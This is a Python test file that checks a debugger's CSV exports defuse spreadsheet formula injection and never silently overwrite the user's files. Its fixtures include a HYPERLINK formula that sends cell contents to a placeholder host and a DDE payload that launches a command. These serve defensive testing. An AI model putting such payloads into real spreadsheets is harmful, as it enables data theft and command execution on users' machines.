"""Issue 27 §5 in the API: its CSV exports carry dump text into spreadsheets and land in the
user's folders. Op and node names that a spreadsheet would run as a formula are written as
text (OWASP's CSV-injection advice: a leading apostrophe, for text cells only, never for
numbers); an existing file is never replaced silently: `summary_statistics` keeps
MindInsight's fixed `statistics_summary.csv` and refuses (`overwrite=True` replaces it),
`export_graphs` keeps MindInsight's `dump_<YYYYmmdd_HHMMSS>` and adds `_1`, `_2`… when the
name is taken (two exports in the same second)."""

from __future__ import annotations

import csv
import os
import time
from pathlib import Path

import numpy as np
import pytest

from tuidebug.api import DebuggerParamValueError, DumpAnalyzer
from tuidebug.core.user_files import spreadsheet_text
from tuidebug.offline.writer.dump_writer import DumpWriter, NodeDef, ParamDef

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


def _rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _statistics() -> dict[int, dict[int, dict[str, list[dict[str, str]]]]]:
    """select_tensor_statistics' shape, with op names a dump could hold."""
    per_iteration: dict[str, list[dict[str, str]]] = {}
    for name in [*FORMULAS, "\tTab", "\rCR", "Conv2D-op1"]:
        per_iteration[f"{name}:output:0"] = [
            {
                "Op Type": name,
                "Op Name": name,
                "IO": "output",
                "Slot": "0",
                "Min Value": "-70000",
                "Max Value": "1",
                "NaN Count": "0",
                "Negative Inf Count": "0",
                "Positive Inf Count": "0",
            }
        ]
    return {0: {0: per_iteration}}


def test_summary_cells_never_start_a_formula(a20: DumpAnalyzer, tmp_path: Path) -> None:
    a20.summary_statistics(_statistics(), out_path=str(tmp_path))
    rows = _rows(tmp_path / "statistics_summary.csv")
    for row in rows:
        for column in ("op_type", "op_name", "tensor_name"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]
    first = rows[0]
    assert first["op_name"] == "'" + FORMULAS[0]
    assert first["tensor_name"] == "'" + FORMULAS[0] + ":output:0"
    assert rows[-1]["op_name"] == "Conv2D-op1"  # an ordinary name is written as it is
    assert first["out_of_range_number"] == "1"  # numbers stay numbers


def test_only_text_cells_are_prefixed() -> None:
    assert spreadsheet_text(-3) == -3 and spreadsheet_text(-0.5) == -0.5
    assert spreadsheet_text("-3") == "'-3"  # text, though it looks like a number
    assert spreadsheet_text("a=b") == "a=b" and spreadsheet_text("") == ""


def test_summary_never_replaces_a_file_silently(a20: DumpAnalyzer, tmp_path: Path) -> None:
    target = tmp_path / "statistics_summary.csv"
    target.write_text("the user's own table\n")
    with pytest.raises(DebuggerParamValueError) as info:
        a20.summary_statistics(_statistics(), out_path=str(tmp_path))
    assert str(info.value) == (
        f"{target} exists and was left as it is; pass overwrite=True to replace it, or "
        "another out_path."
    )
    assert target.read_text() == "the user's own table\n"
    a20.summary_statistics(_statistics(), out_path=str(tmp_path), overwrite=True)
    assert _rows(target)[-1]["op_name"] == "Conv2D-op1"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["statistics_summary.csv"]


def test_summary_to_a_fifo_is_refused_at_once(a20: DumpAnalyzer, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "statistics_summary.csv")
    with pytest.raises(DebuggerParamValueError, match="FIFO"):
        a20.summary_statistics(_statistics(), out_path=str(tmp_path), overwrite=True)


def test_two_graph_exports_in_one_second_get_two_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    writer = DumpWriter(tmp_path / "dump", start_timestamp=1000)
    writer.add_graph(
        0,
        [NodeDef("Default/=cmd|' /C calc'!A0", "ReLU", ["@w"], shape=(2,))],
        [ParamDef("@w", np.float32, (2,))],
    )
    writer.write_iteration(0, 0, {("@w", "output", 0): np.ones(2, np.float32)})
    writer.finish()
    analyzer = DumpAnalyzer(str(tmp_path / "dump"))
    monkeypatch.setattr(time, "strftime", lambda fmt, *a: "20240102_030405")
    out = tmp_path / "out"
    first = Path(analyzer.export_graphs(str(out)))
    second = Path(analyzer.export_graphs(str(out)))
    third = Path(analyzer.export_graphs(str(out)))
    assert [first.name, second.name, third.name] == [
        "dump_20240102_030405.csv",
        "dump_20240102_030405_1.csv",
        "dump_20240102_030405_2.csv",
    ]
    assert first.read_bytes() == second.read_bytes()
    rows = _rows(first)
    param = next(r for r in rows if r["node_type"] == "parameter")
    assert param["node_name"] == "'@w"
    relu = next(r for r in rows if r["op_type"] == "ReLU")
    assert relu["input_nodes"] == "'@w" and relu["node_name"].startswith("Default/=")
    assert relu["rank"] == "0"
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left
